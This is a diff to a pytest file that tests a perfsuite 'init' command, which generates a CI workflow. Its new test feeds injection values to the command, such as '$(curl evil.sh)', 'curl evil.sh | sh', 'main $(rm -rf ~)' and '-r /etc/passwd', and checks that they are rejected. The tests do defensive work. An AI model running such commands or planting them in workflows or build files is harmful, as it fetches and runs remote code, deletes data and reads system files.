@@ -61,7 +61,9 @@ def test_init_workflow_gates_against_main_on_a_labelled_runner(tmp_path: Path) -
     uses = [step.get("uses", "") for step in job["steps"]]
     assert "--perf-baseline-save main" in runs and "--perf-compare main --perf-gate" in runs
     assert "--perf-suite mine --perf-device cuda" in job["env"]["PERF_ARGS"]
-    assert "GITHUB_STEP_SUMMARY" in runs and "download.pytorch.org/whl/cu126" in runs and "perfsuite[cuda]==" in runs
+    assert "GITHUB_STEP_SUMMARY" in runs and "download.pytorch.org/whl/cu126" in runs and 'pip install "$PERFSUITE_REQUIREMENT"' in runs
+    install = next(step for step in job["steps"] if step.get("name") == "Install perfsuite")
+    assert install["env"]["PERFSUITE_REQUIREMENT"].startswith("perfsuite[cuda]==")
     assert any(u.startswith("actions/upload-artifact@") for u in uses)
     assert any(u.startswith("actions/cache/restore@") for u in uses) and any(u.startswith("actions/cache/save@") for u in uses)
     docker = (tmp_path / "Dockerfile.perf").read_text()
@@ -116,6 +118,38 @@ def test_init_into_a_conf_folder_with_a_config_yaml_writes_nothing_and_says_why(
     with pytest.raises(PerfConfigError, match="would replace perfsuite's own primary config"):
         ConfSources.create((tmp_path / "conf",))
     assert main(["init", str(tmp_path), "--no-check", "--conf-dir", "perf_conf"]) == 0  # beside it, init works
+
+
+@pytest.mark.parametrize("option, value", [
+    ("--runner-label", "perf\nruns-on: ubuntu-latest"),
+    ("--runner-label", 'perf"]'),
+    ("--runner-label", "$(curl evil.sh)"),
+    ("--main-branch", "main\n  pull_request_target:"),
+    ("--main-branch", "main $(rm -rf ~)"),
+    ("--main-branch", "../x"),
+    ("--requirement", 'perfsuite"; curl evil.sh | sh; echo "'),
+    ("--requirement", "perfsuite==$(id)"),
+    ("--requirement", "perfsuite\nRUN curl evil.sh"),
+    ("--requirement", "-r /etc/passwd"),
+    ("--requirement", "not a requirement !"),
+])
+def test_init_refuses_values_that_would_break_or_inject_into_the_workflow(tmp_path: Path, capsys: pytest.CaptureFixture[str],
+                                                                          option: str, value: str) -> None:
+    assert main(["init", str(tmp_path), "--no-check", option, value]) == 2
+    err = capsys.readouterr().err
+    assert option in err and "Traceback" not in err
+    assert list(tmp_path.iterdir()) == []  # nothing written
+
+
+@pytest.mark.parametrize("requirement", ["perfsuite[cuda]>=0.1", "perfsuite @ git+https://github.com/o/perfsuite@v0.1",
+                                         "./dist/perfsuite-0.1.0-py3-none-any.whl", "https://example.com/perfsuite-0.1.0-py3-none-any.whl"])
+def test_init_writes_a_workflow_that_parses_and_installs_the_requirement_from_env(tmp_path: Path, requirement: str) -> None:
+    assert main(["init", str(tmp_path), "--no-check", "--requirement", requirement, "--main-branch", "release/2.x",
+                 "--runner-label", "gpu-a100.1"]) == 0
+    flow = yaml.safe_load((tmp_path / ".github" / "workflows" / "perf.yml").read_text())
+    install = next(s for s in flow["jobs"]["benchmark"]["steps"] if s.get("name") == "Install perfsuite")
+    assert install["env"]["PERFSUITE_REQUIREMENT"] == requirement and requirement not in install["run"]
+    assert flow[True]["push"]["branches"] == ["release/2.x"] and flow["jobs"]["benchmark"]["runs-on"] == ["self-hosted", "gpu-a100.1"]
 
 
 PYPROJECT = """\
